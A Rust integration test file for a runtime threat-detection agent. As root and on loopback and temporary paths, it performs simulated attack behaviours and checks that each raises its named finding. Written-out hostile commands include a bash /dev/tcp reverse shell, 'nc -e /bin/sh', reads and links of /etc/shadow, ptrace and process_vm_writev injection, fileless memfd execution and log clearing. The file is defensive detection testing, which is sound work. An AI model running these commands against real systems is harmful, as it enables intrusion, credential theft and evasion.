//! The default pack on the real kernel: one agent, many real behaviours
//! (run as root, on loopback and temporary paths only), each of which must
//! come out as its GuardDuty-style finding naming the right process.

use std::io::Write;
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::Receiver;
use std::time::{Duration, Instant};

use harrier_tests::{harrier_bin, lines, privileged};
use serde_json::Value;

/// Threat-intelligence types, against a stub resolver of the test's own.
mod live_intel;

/// The agent under test: `harrier run` with the embedded default pack (and
/// any extra plugin directory), stopped when dropped even if an assertion
/// failed first.
struct Agent {
    child: Child,
    stdout: Receiver<String>,
    socket: PathBuf,
}

impl Agent {
    /// Starts the agent and waits (120 s at most) until it says it is ready.
    fn start(socket: &Path, config: &Path, plugins: Option<&Path>) -> Agent {
        let mut command = Command::new(harrier_bin());
        command.args([
            "run",
            "--admin-socket",
            socket.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
        ]);
        if let Some(dir) = plugins {
            command.arg("--plugins").arg(dir);
        }
        let mut child = command
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start harrier");
        let stdout = lines(child.stdout.take().unwrap());
        let stderr = lines(child.stderr.take().unwrap());
        let agent = Agent {
            child,
            stdout,
            socket: socket.to_path_buf(),
        };
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            let left = deadline
                .checked_duration_since(Instant::now())
                .expect("agent not ready within 120 s");
            let line = stderr
                .recv_timeout(left)
                .expect("agent exited before ready");
            if line.contains("ready") {
                break;
            }
        }
        // Warnings (dropped events, lagging detectors) and the final
        // counters explain a missing finding.
        std::thread::spawn(move || {
            while let Ok(line) = stderr.recv() {
                if line.contains(" WARN ") || line.contains(" ERROR ") || line.contains("stopped") {
                    eprintln!("agent: {line}");
                }
            }
        });
        agent
    }

    /// The findings printed until `complete` says they are all there (or
    /// 45 s have passed: a loaded machine delays the agent, and the caller's
    /// assertion then names what is missing), then the agent stopped with
    /// SIGINT: it must exit successfully.
    fn collect(mut self, complete: impl Fn(&[Value]) -> bool) -> Vec<Value> {
        let deadline = Instant::now() + Duration::from_secs(45);
        let mut findings: Vec<Value> = Vec::new();
        while let Some(left) = deadline.checked_duration_since(Instant::now()) {
            if let Ok(line) = self.stdout.recv_timeout(left) {
                findings.push(serde_json::from_str(&line).unwrap());
                if complete(&findings) {
                    break;
                }
            }
        }
        self.print_losses();
        // SAFETY: kill on our own child's pid.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGINT) };
        assert!(self.child.wait().unwrap().success(), "agent exit status");
        findings
    }
}

impl Agent {
    /// The agent's `/metrics` page, from its admin socket.
    fn metrics(&self) -> Option<String> {
        use std::io::Read;
        let mut stream = std::os::unix::net::UnixStream::connect(&self.socket).ok()?;
        let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
        stream
            .write_all(b"GET /metrics HTTP/1.1\r\nHost: harrier\r\n\r\n")
            .ok()?;
        let mut text = String::new();
        let _ = stream.read_to_string(&mut text);
        Some(text)
    }

    /// The value of an unlabelled metric, waiting up to `limit` for it to
    /// reach at least `least`; the last value read (0 if never).
    fn metric_at_least(&self, name: &str, least: u64, limit: Duration) -> u64 {
        let deadline = Instant::now() + limit;
        loop {
            let value = self
                .metrics()
                .and_then(|text| {
                    text.lines()
                        .find_map(|l| l.strip_prefix(name)?.strip_prefix(' ')?.parse().ok())
                })
                .unwrap_or(0);
            if value >= least || Instant::now() > deadline {
                return value;
            }
            std::thread::sleep(Duration::from_millis(200));
        }
    }

    /// Prints the agent's non-zero loss counters (events dropped by the
    /// sensor or the pipeline), which explain a missing finding.
    fn print_losses(&self) {
        let Some(text) = self.metrics() else {
            eprintln!("agent: admin socket {} unreachable", self.socket.display());
            return;
        };
        for line in text.lines() {
            let lossy = line.contains("drop") || line.contains("lost");
            if lossy && !line.starts_with('#') && !line.ends_with(" 0") {
                eprintln!("agent: {line}");
            }
        }
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// The expected (type, pid) pairs with no finding (pid 0: any process),
/// followed by every finding seen, for the assertion message.
fn missing(findings: &[Value], expected: &[(&str, u32)]) -> (Vec<String>, String) {
    let missing = expected
        .iter()
        .filter(|(kind, pid)| {
            !findings
                .iter()
                .any(|f| f["type"] == *kind && (*pid == 0 || names_process(f, *pid)))
        })
        .map(|(kind, pid)| format!("{kind} (pid {pid})"))
        .collect();
    let seen: Vec<String> = findings
        .iter()
        .map(|f| {
            format!(
                "{} pid {} {} {} container {}",
                f["type"], f["process"]["pid"], f["process"]["exe"], f["detectors"], f["container"]
            )
        })
        .collect();
    (missing, seen.join("\n"))
}

/// Whether a finding is about `pid`: its first process, or one merged into
/// it (agents side by side see each other's processes, and the same type on
/// the same resource merges).
fn names_process(finding: &Value, pid: u32) -> bool {
    finding["process"]["pid"] == pid
        || finding["processes"]
            .as_array()
            .is_some_and(|all| all.iter().any(|p| p["pid"] == pid))
}

/// The value of evidence `key` of a finding, if any.
fn evidence<'a>(finding: &'a Value, key: &str) -> Option<&'a str> {
    finding["evidence"]
        .as_array()?
        .iter()
        .find(|e| e["key"] == key)
        .and_then(|e| e["value"].as_str())
}

/// Runs `command` to completion, killing it after `limit`; returns its pid.
fn run_bounded(command: &mut Command, limit: Duration) -> u32 {
    let mut child = command.spawn().unwrap();
    let pid = child.id();
    let deadline = Instant::now() + limit;
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    pid
}

fn sh(script: &str) -> u32 {
    let mut child = Command::new("/bin/sh")
        .args(["-c", script])
        .spawn()
        .unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

fn python(code: &str) -> u32 {
    let mut child = Command::new("python3").args(["-c", code]).spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

fn run(path: &Path, args: &[&str]) -> u32 {
    let mut child = Command::new(path).args(args).spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

/// A DNS query for `name` sent to a loopback port 53 (nothing listens).
fn dns_query(name: &str) -> u32 {
    let mut packet = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        packet.push(label.len() as u8);
        packet.extend_from_slice(label.as_bytes());
    }
    packet.extend_from_slice(&[0, 0, 1, 0, 1]);
    let code = format!(
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(bytes({packet:?}), ('127.0.0.1', 53))"
    );
    python(&code)
}

#[test]
fn real_behaviours_raise_their_findings() {
    if !privileged("real_behaviours_raise_their_findings") {
        return;
    }
    // On the root file system (not a tmpfs), so a hard link to /etc works.
    let tmp = tempfile::tempdir_in("/var/tmp").unwrap();
    let dir = tmp.path();
    // A binary the operator declared malicious by its SHA-256.
    let malware = dir.join("implant");
    let mut bytes = std::fs::read("/bin/true").unwrap();
    bytes.extend_from_slice(format!("harrier-test-{}", std::process::id()).as_bytes());
    std::fs::write(&malware, &bytes).unwrap();
    std::fs::set_permissions(
        &malware,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&bytes))
    };
    let config = dir.join("harrier.toml");
    // A container runtime socket of our own, declared next to the defaults.
    let runtime_socket = dir.join("docker.sock");
    std::fs::write(
        &config,
        format!(
            "[plugins.config.execution]\nextra_sha256 = [\"{sha}\"]\n\
             [plugins.config.privilege-escalation]\nruntime_sockets = [\"/var/run/docker.sock\", \"/run/docker.sock\", \"{}\"]\n",
            runtime_socket.display()
        ),
    )
    .unwrap();
    let agent = Agent::start(&dir.join("admin.sock"), &config, None);
    let mut expected: Vec<(&str, u32)> = Vec::new();
    // A web server that reads /etc/shadow long after it started (Falco:
    // Read sensitive file trusted after startup); started first, it reads
    // while the rest runs.
    let nginx = dir.join("nginx");
    std::fs::copy("/bin/bash", &nginx).unwrap();
    let mut late_reader = Command::new(&nginx)
        .args(["-c", "sleep 6; exec 3</etc/shadow"])
        .spawn()
        .unwrap();
    expected.push((
        "CredentialAccess:Runtime/SensitiveFileReadAfterStartup",
        late_reader.id(),
    ));
    expected.push((
        "Execution:Runtime/MaliciousFileExecuted",
        run(&malware, &[]),
    ));

    // Execution: a tool by name, a program under /dev/shm, a shell from a web server.
    let nmap = dir.join("nmap");
    std::fs::copy("/bin/true", &nmap).unwrap();
    // Copied a moment ago by this test, so also a new binary.
    let nmap_pid = run(&nmap, &["-sS", "127.0.0.1"]);
    expected.push(("Execution:Runtime/SuspiciousTool", nmap_pid));
    expected.push(("Execution:Runtime/NewBinaryExecuted", nmap_pid));
    let xmrig = dir.join("xmrig");
    std::fs::copy("/bin/true", &xmrig).unwrap();
    expected.push((
        "Impact:Runtime/CryptoMinerExecuted",
        run(&xmrig, &["-o", "stratum+tcp://127.0.0.1:3333"]),
    ));
    let shm = std::path::PathBuf::from(format!("/dev/shm/harrier-test-{}", std::process::id()));
    std::fs::copy("/bin/true", &shm).unwrap();
    expected.push(("Execution:Runtime/ExecutionFromDevShm", run(&shm, &[])));
    let _ = std::fs::remove_file(&shm);
    let mut web = Command::new(&nginx)
        .args(["-c", "/bin/sh -c true; sleep 0.2"])
        .spawn()
        .unwrap();
    web.wait().unwrap();
    expected.push(("Execution:Runtime/SuspiciousShellCreated", 0));

    // A reverse shell to a loopback listener that hangs up at once.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.write_all(b"exit\n");
        }
    });
    let reverse = sh(&format!(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null"
    ));
    expected.push(("Execution:Runtime/ReverseShell", 0));
    let _ = reverse;

    // Commands of discovery, persistence and defense evasion.
    let suid_dir = dir.join("find-here");
    std::fs::create_dir(&suid_dir).unwrap();
    let find = Command::new("find")
        .arg(&suid_dir)
        .args(["-perm", "-4000"])
        .status();
    assert!(find.unwrap().success());
    expected.push(("Discovery:Runtime/SuspiciousCommand", 0));
    let ssh = dir.join(".ssh");
    std::fs::create_dir(&ssh).unwrap();
    expected.push((
        "Persistence:Runtime/SuspiciousCommand",
        sh(&format!(
            "echo 'ssh-ed25519 AAAA test' >> {}/authorized_keys",
            ssh.display()
        )),
    ));
    let stamp = dir.join("stamped");
    std::fs::write(&stamp, b"x").unwrap();
    let touch = Command::new("touch")
        .args(["-r", "/bin/ls"])
        .arg(&stamp)
        .status()
        .unwrap();
    assert!(touch.success());
    expected.push(("DefenseEvasion:Runtime/SuspiciousCommand", 0));

    // Files: credentials, symlinks over them, logs, bulk removal.
    expected.push((
        "CredentialAccess:Runtime/SensitiveFileRead",
        python("open('/etc/shadow').read()"),
    ));
    let link = dir.join("shadow-link");
    let ln = Command::new("ln")
        .arg("-s")
        .arg("/etc/shadow")
        .arg(&link)
        .status()
        .unwrap();
    assert!(ln.success());
    expected.push(("CredentialAccess:Runtime/SymlinkOverSensitiveFile", 0));
    let log = std::path::PathBuf::from(format!("/var/log/harrier-test-{}.log", std::process::id()));
    std::fs::write(&log, b"line\n").unwrap();
    let truncate = Command::new("truncate")
        .args(["-s", "0"])
        .arg(&log)
        .status()
        .unwrap();
    assert!(truncate.success());
    let _ = std::fs::remove_file(&log);
    expected.push(("DefenseEvasion:Runtime/LogFileCleared", 0));
    let hard = dir.join("shadow-hardlink");
    assert!(
        Command::new("ln")
            .arg("/etc/shadow")
            .arg(&hard)
            .status()
            .unwrap()
            .success()
    );
    expected.push(("CredentialAccess:Runtime/HardlinkOverSensitiveFile", 0));
    let history = dir.join(".bash_history");
    std::fs::write(&history, b"ls\n").unwrap();
    assert!(
        Command::new("truncate")
            .args(["-s", "0"])
            .arg(&history)
            .status()
            .unwrap()
            .success()
    );
    expected.push(("DefenseEvasion:Runtime/ShellHistoryCleared", 0));
    let keys = Command::new("grep")
        .args(["-r", "-l", "BEGIN RSA PRIVATE KEY"])
        .arg(&suid_dir)
        .status();
    let _ = keys.unwrap();
    expected.push(("CredentialAccess:Runtime/PrivateKeySearch", 0));
    let doomed = dir.join("doomed");
    std::fs::write(&doomed, vec![b'x'; 4096]).unwrap();
    let shred = Command::new("shred")
        .arg("-u")
        .arg(&doomed)
        .status()
        .unwrap();
    assert!(shred.success());
    expected.push(("Impact:Runtime/BulkDataRemoval", 0));

    // A kernel module load: this kernel has no module support (ENOSYS),
    // so only the attempt happens; like GuardDuty, the attempt is reported
    // (with its errno, checked below).
    let module_attempt = python(
        "import ctypes, os; fd = os.open('/bin/true', os.O_RDONLY); ctypes.CDLL(None).syscall(313, fd, b'', 0)",
    );
    expected.push(("DefenseEvasion:Runtime/KernelModuleLoaded", module_attempt));

    // Privilege escalation and injection.
    let agent_file = dir.join("release_agent");
    expected.push((
        "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
        sh(&format!("echo /tmp/payload > {}", agent_file.display())),
    ));
    expected.push((
        "PrivilegeEscalation:Runtime/UserfaultfdUsage",
        python("import ctypes; ctypes.CDLL(None, use_errno=True).syscall(323, 0)"),
    ));
    expected.push((
        "DefenseEvasion:Runtime/PtraceAntiDebugging",
        python("import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)"),
    ));
    // Injection into a sleeping victim: a ptrace poke and a
    // process_vm_writev, each writing back the word it just read from a
    // writable mapping (so the victim is unchanged), and a write through
    // /proc/<pid>/mem.
    let mut victim = Command::new("sleep").arg("10").spawn().unwrap();
    let target = victim.id();
    std::thread::sleep(Duration::from_millis(100));
    let writable = format!(
        "addr = next(int(l.split('-')[0], 16) for l in open('/proc/{target}/maps') if l.split()[1].startswith('rw'))\n"
    );
    let poke = format!(
        "import ctypes, os\n{writable}libc = ctypes.CDLL(None); libc.ptrace.restype = ctypes.c_long\nlibc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\nlibc.ptrace(16, {target}, None, None); os.waitpid({target}, 0)\nword = libc.ptrace(2, {target}, addr, None)\nlibc.ptrace(5, {target}, addr, ctypes.c_void_p(word & 0xffffffffffffffff))\nlibc.ptrace(17, {target}, None, None)"
    );
    // The poke needs an attach first.
    let poke_pid = python(&poke);
    expected.push(("DefenseEvasion:Runtime/ProcessInjection.Ptrace", poke_pid));
    expected.push(("DefenseEvasion:Runtime/PtraceAttached", poke_pid));
    let vm_write = format!(
        "import ctypes\n{writable}class Iov(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\nbuf = ctypes.create_string_buffer(8)\nlocal = Iov(ctypes.cast(buf, ctypes.c_void_p), 8); remote = Iov(addr, 8)\nlibc = ctypes.CDLL(None)\nlibc.process_vm_readv({target}, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\nassert libc.process_vm_writev({target}, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8"
    );
    expected.push((
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
        python(&vm_write),
    ));
    let proc_mem = format!(
        "f = open('/proc/{target}/mem', 'wb', buffering=0)\ntry: f.write(b'x')\nexcept OSError: pass"
    );
    expected.push((
        "DefenseEvasion:Runtime/ProcessInjection.Proc",
        python(&proc_mem),
    ));
    let _ = victim.kill();
    let _ = victim.wait();
    expected.push((
        "DefenseEvasion:Runtime/FilelessExecution",
        python(
            "import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true','rb').read()); os.execv('/proc/self/fd/%d' % fd, ['x'])",
        ),
    ));

    // A library written a moment ago, then loaded.
    let lib = dir.join("libfresh.so");
    std::fs::copy("/usr/lib/x86_64-linux-gnu/libz.so.1", &lib).unwrap();
    expected.push((
        "Execution:Runtime/NewLibraryLoaded",
        python(&format!("import ctypes; ctypes.CDLL('{}')", lib.display())),
    ));
    // A raw packet socket.
    expected.push((
        "CredentialAccess:Runtime/PacketSocketCreated",
        python("import socket; socket.socket(17, socket.SOCK_RAW, 0).close()"),
    ));
    // A system user's interactive shell.
    let daemon_shell = Command::new("setpriv")
        .args(["--reuid=1", "--regid=1", "--clear-groups", "bash", "-i"])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .status();
    let _ = daemon_shell.unwrap();
    expected.push(("Execution:Runtime/SystemUserInteractiveShell", 0));

    // DNS: a mining pool and GuardDuty's C&C test domain.
    expected.push((
        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        dns_query("pool.minexmr.com"),
    ));
    expected.push((
        "Backdoor:Runtime/C&CActivity.B!DNS",
        dns_query("guarddutyc2activityb.com"),
    ));

    // Container escapes from the host side: a client of the runtime socket,
    // a write-open of a runc binary, a setuid-root program that becomes root
    // for a non-root user.
    let _docker = UnixListener::bind(&runtime_socket).unwrap();
    // A python socket one-liner, also a suspicious command.
    let docker_client = python(&format!(
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); s.close()",
        runtime_socket.display()
    ));
    expected.push((
        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
        docker_client,
    ));
    expected.push(("Execution:Runtime/SuspiciousCommand", docker_client));
    expected.push((
        "PrivilegeEscalation:Runtime/RuncContainerEscape",
        python(&format!(
            "open('{}', 'wb').write(b'#!/bin/sh')",
            dir.join("runc").display()
        )),
    ));
    let suid_python = dir.join("rootshell");
    std::fs::copy(
        std::fs::canonicalize("/usr/bin/python3").unwrap(),
        &suid_python,
    )
    .unwrap();
    std::fs::set_permissions(
        &suid_python,
        std::os::unix::fs::PermissionsExt::from_mode(0o4755),
    )
    .unwrap();
    std::fs::set_permissions(dir, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let mut became_root = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&suid_python)
        .args(["-c", "import os; os.setuid(0); assert os.getuid() == 0"])
        .spawn()
        .unwrap();
    let elevated = became_root.id();
    assert!(
        became_root.wait().unwrap().success(),
        "the setuid-root copy of python became root"
    );
    expected.push(("PrivilegeEscalation:Runtime/ElevationToRoot", elevated));

    // A search for cloud credentials.
    let _ = Command::new("grep")
        .args(["-r", "-l", "aws_secret_access_key"])
        .arg(&suid_dir)
        .status()
        .unwrap();
    expected.push(("CredentialAccess:Runtime/CloudCredentialSearch", 0));

    // netcat handing a shell to a loopback peer, which tells it to exit.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.write_all(b"exit\n");
        }
    });
    expected.push((
        "Execution:Runtime/NetcatRemoteCodeExecution",
        run_bounded(
            Command::new("nc.traditional")
                .args(["-w", "5", "-e", "/bin/sh", "127.0.0.1", &port.to_string()])
                .stdin(Stdio::null()),
            Duration::from_secs(10),
        ),
    ));

    // An SSH client to a loopback port other than 22 (the peer hangs up
    // after a banner, so ssh gives up at once).
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.write_all(b"SSH-2.0-harrier-test\r\n");
        }
    });
    expected.push((
        "UnauthorizedAccess:Runtime/SshNonStandardPort",
        run_bounded(
            Command::new("ssh")
                .args([
                    "-p",
                    &port.to_string(),
                    "-o",
                    "BatchMode=yes",
                    "-o",
                    "StrictHostKeyChecking=no",
                    "-o",
                    "UserKnownHostsFile=/dev/null",
                    "-o",
                    "ConnectTimeout=5",
                    "harrier@127.0.0.1",
                    "true",
                ])
                .stdin(Stdio::null())
                .stderr(Stdio::null()),
            Duration::from_secs(10),
        ),
    ));

    assert!(
        late_reader.wait().unwrap().success(),
        "the late reader read /etc/shadow"
    );

    // Collect until every expectation is met, then check them all.
    let findings = agent.collect(|f| missing(f, &expected).0.is_empty());
    let (mut missing, seen) = missing(&findings, &expected);
    let refused = findings.iter().any(|f| {
        f["type"] == "DefenseEvasion:Runtime/KernelModuleLoaded"
            && f["process"]["pid"] == module_attempt
            && evidence(f, "result").is_some_and(|r| r.starts_with('-'))
    });
    if !refused {
        missing.push(format!(
            "KernelModuleLoaded for the refused attempt of pid {module_attempt} with its errno"
        ));
    }
    assert!(
        missing.is_empty(),
        "missing findings: {missing:#?}\nseen:\n{seen}"
    );
}

/// A Kubernetes-style cgroup (v2, cgroupfs layout `kubepods/burstable/pod<uid>/<id>`)
/// that processes enter to look like a container to the enricher; removed
/// when dropped.
struct FakeContainer {
    id: String,
    dirs: Vec<PathBuf>,
    leaf: PathBuf,
}

impl FakeContainer {
    /// Creates the cgroup directories under the unified hierarchy.
    fn create(label: &str) -> FakeContainer {
        use sha2::Digest;
        let seed = format!(
            "{label}-{}-{:?}",
            std::process::id(),
            std::time::SystemTime::now()
        );
        let id = hex::encode(sha2::Sha256::digest(seed.as_bytes()));
        let u = &hex::encode(sha2::Sha256::digest(id.as_bytes()))[..32];
        let pod = format!(
            "{}-{}-{}-{}-{}",
            &u[..8],
            &u[8..12],
            &u[12..16],
            &u[16..20],
            &u[20..]
        );
        let hierarchy = Path::new("/sys/fs/cgroup/unified");
        assert!(
            hierarchy.join("cgroup.procs").exists(),
            "{} is not a mounted cgroup v2 hierarchy",
            hierarchy.display()
        );
        let relative = format!(
            "harrier-test-{label}-{}/kubepods/burstable/pod{pod}/{id}",
            std::process::id()
        );
        let mut container = FakeContainer {
            id,
            dirs: Vec::new(),
            leaf: hierarchy.to_path_buf(),
        };
        for part in relative.split('/') {
            container.leaf.push(part);
            std::fs::create_dir(&container.leaf).unwrap_or_else(|e| {
                panic!("cannot create cgroup {}: {e}", container.leaf.display())
            });
            container.dirs.push(container.leaf.clone());
        }
        container
    }

    /// Runs `commands` (name, shell command) in the container and returns
    /// the pid of each, in order. Like a container's main process, a shell
    /// enters the cgroup, execs a script (the exec makes the enricher read
    /// the new cgroup) and waits a second before it forks the commands. Each
    /// command gets a pipe that stays open for two seconds as its standard
    /// input, so a command reading it is still alive when the enricher reads
    /// its cgroup (a process already gone keeps only what it inherited, and
    /// its fork may be reported after its exec).
    fn run(&self, scratch: &Path, commands: &[(&str, &str)]) -> Vec<(String, u32)> {
        let mut script = String::from("sleep 1\n");
        for (name, command) in commands {
            let pid_file = scratch.join(format!("{name}.pid"));
            script.push_str(&format!(
                "sleep 2 | /bin/sh -c 'echo $$ > {}; exec {command}' >/dev/null 2>&1 &\n",
                pid_file.display()
            ));
        }
        script.push_str("wait\n");
        let script_file = scratch.join("container.sh");
        std::fs::write(&script_file, script).unwrap();
        let main = format!(
            "echo $$ > {}/cgroup.procs && exec /bin/sh {}",
            self.leaf.display(),
            script_file.display()
        );
        run_bounded(
            Command::new("/bin/sh").args(["-c", &main]),
            Duration::from_secs(20),
        );
        commands
            .iter()
            .map(|(name, _)| {
                let pid_file = scratch.join(format!("{name}.pid"));
                let pid = std::fs::read_to_string(&pid_file)
                    .unwrap_or_else(|e| panic!("{}: {e}", pid_file.display()));
                (name.to_string(), pid.trim().parse().unwrap())
            })
            .collect()
    }
}

impl Drop for FakeContainer {
    fn drop(&mut self) {
        for dir in self.dirs.iter().rev() {
            // Processes that just exited may take a moment to leave.
            for _ in 0..100 {
                if std::fs::remove_dir(dir).is_ok() || !dir.exists() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }
}

#[test]
fn container_behaviours_and_guest_detectors_raise_their_findings() {
    if !privileged("container_behaviours_and_guest_detectors_raise_their_findings") {
        return;
    }
    let tmp = tempfile::tempdir_in("/var/tmp").unwrap();
    let dir = tmp.path();
    // The Python and JavaScript detectors, loaded from a directory.
    let plugins = dir.join("plugins");
    std::fs::create_dir(&plugins).unwrap();
    let guests = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/guests");
    for guest in ["persistence-py.wasm", "discovery-js.wasm"] {
        std::fs::copy(guests.join(guest), plugins.join(guest)).unwrap_or_else(|e| {
            panic!(
                "{}: {e} (build it with scripts/build-guests.sh)",
                guests.join(guest).display()
            )
        });
    }
    // Python's runtime reads the (empty) environment and random bytes. The
    // guests take seconds each to compile: the compiled artifacts are kept
    // (the scripted-guest tests share them), so agents started side by side
    // on a small machine still get ready in time.
    let config = dir.join("harrier.toml");
    let cache = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/guest-cache");
    std::fs::write(
        &config,
        format!(
            "[plugins.engine]\ncache_dir = \"{}\"\n[plugins.permissions]\npersistence-py = [\"wasi:cli\", \"wasi:random\"]\n",
            cache.display()
        ),
    )
    .unwrap();
    let agent = Agent::start(&dir.join("admin.sock"), &config, Some(&plugins));
    let container = FakeContainer::create("detections");
    // In the container: a bind mount of the host's /etc, in a private
    // mount namespace so nothing reaches the host's mount table; debugfs on
    // a scratch file; the service-account token read (the JavaScript
    // detector).
    let target = dir.join("host-etc");
    std::fs::create_dir(&target).unwrap();
    let image = dir.join("disk.img");
    std::fs::write(&image, vec![0u8; 4096]).unwrap();
    // mount(2) from python, which then lingers like the other commands.
    let mount_code = dir.join("mount.py");
    std::fs::write(
        &mount_code,
        format!(
            "import ctypes, time\nassert ctypes.CDLL(None).mount(b'/etc', b'{}', None, 4096, None) == 0\ntime.sleep(2)\n",
            target.display()
        ),
    )
    .unwrap();
    let mount = format!(
        "unshare -m --propagation private python3 {}",
        mount_code.display()
    );
    // Interactive debugfs and cat read their standard input until it closes.
    let debugfs = format!("debugfs {}", image.display());
    // A connect to the API server's port (nothing listens here: an attempt).
    let api_code = dir.join("api.py");
    std::fs::write(
        &api_code,
        "import socket, time\nsocket.socket().connect_ex(('127.0.0.1', 6443))\ntime.sleep(2)\n",
    )
    .unwrap();
    let api = format!("python3 {}", api_code.display());
    let pids = container.run(
        dir,
        &[
            ("mount", &mount),
            ("debugfs", &debugfs),
            (
                "token",
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token -",
            ),
            ("api", &api),
        ],
    );
    let mut expected: Vec<(&str, u32)> = vec![
        (
            "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
            pids[0].1,
        ),
        (
            "PrivilegeEscalation:Runtime/DebugfsLaunchedInContainer",
            pids[1].1,
        ),
    ];
    let token_read = pids[2].1;
    expected.push(("Discovery:Runtime/KubernetesAPIServerContacted", pids[3].1));
    // A systemd user unit written (the Python detector).
    let units = dir.join("home/.config/systemd/user");
    std::fs::create_dir_all(&units).unwrap();
    let unit_write = python(&format!(
        "open('{}', 'w').write('[Service]\\nExecStart=/bin/true\\n')",
        units.join("harrier-test.service").display()
    ));
    expected.push(("Discovery:Runtime/SuspiciousCommand", token_read));
    expected.push(("Persistence:Runtime/SuspiciousCommand", unit_write));

    // Container findings name the container; the guest findings name the
    // guest detector.
    let check = |findings: &[Value]| {
        let mut absent = missing(findings, &expected).0;
        let wanted = [
            (expected[0], "container", container.id.as_str()),
            (expected[1], "container", container.id.as_str()),
            (expected[2], "container", container.id.as_str()),
            (expected[3], "detectors", "discovery-js"),
            (expected[4], "detectors", "persistence-py"),
        ];
        for ((kind, pid), field, needle) in wanted {
            if !findings.iter().any(|f| {
                f["type"] == kind
                    && f["process"]["pid"] == pid
                    && f[field].to_string().contains(needle)
            }) {
                absent.push(format!("{kind} (pid {pid}) with {field} {needle}"));
            }
        }
        absent
    };
    let findings = agent.collect(|f| check(f).is_empty());
    let missing = check(&findings);
    let seen = self::missing(&findings, &[]).1;
    assert!(
        missing.is_empty(),
        "missing findings: {missing:#?}\nseen:\n{seen}"
    );
}

/// Small C programs that make the calls AWS's GuardDuty tester makes, each
/// bound to fail (as they do in a pod without privileges): a mount of
/// `/etc/` with an unknown file system type, a `PTRACE_TRACEME` child whose
/// parent reads its user area at an invalid offset, a `process_vm_writev`
/// to an unmapped address, a module load this kernel cannot do.
const ATTEMPTS_C: &[(&str, &str)] = &[
    (
        "mount-attempt",
        r#"#include <stdio.h>
#include <sys/mount.h>
int main(void) {
    if (mount("/etc/", "/tmp/", "harrier-no-such-fs", 0, NULL) != 0) perror("mount");
    /* Linger like a container process until stdin closes. */
    while (getchar() != EOF) {}
    return 0;
}
"#,
    ),
    (
        "ptrace-pair",
        r#"#include <stdio.h>
#include <signal.h>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
int main(void) {
    pid_t child = fork();
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, NULL, NULL);
        execl("/bin/true", "true", (char *)NULL);
        _exit(1);
    }
    waitpid(child, NULL, 0);
    /* An offset past the user area: the kernel says EIO. */
    if (ptrace(PTRACE_PEEKUSER, child, (void *)(1L << 20), NULL) == -1) perror("peekuser");
    ptrace(PTRACE_DETACH, child, NULL, NULL);
    waitpid(child, NULL, 0);
    /* Linger like a container process until stdin closes. */
    while (getchar() != EOF) {}
    return 0;
}
"#,
    ),
    (
        "vm-write",
        r#"#define _GNU_SOURCE
#include <stdio.h>
#include <unistd.h>
#include <sys/uio.h>
#include <sys/wait.h>
int main(void) {
    pid_t child = fork();
    if (child == 0) { sleep(1); _exit(0); }
    char buf[64] = {0};
    struct iovec local = { buf, sizeof buf };
    /* Nothing is mapped at 0x1000 in the child: EFAULT. */
    struct iovec remote = { (void *)0x1000, sizeof buf };
    if (process_vm_writev(child, &local, 1, &remote, 1, 0) < 0) perror("process_vm_writev");
    waitpid(child, NULL, 0);
    /* Linger like a container process until stdin closes. */
    while (getchar() != EOF) {}
    return 0;
}
"#,
    ),
    (
        "module-attempt",
        r#"#include <stdio.h>
#include <fcntl.h>
#include <unistd.h>
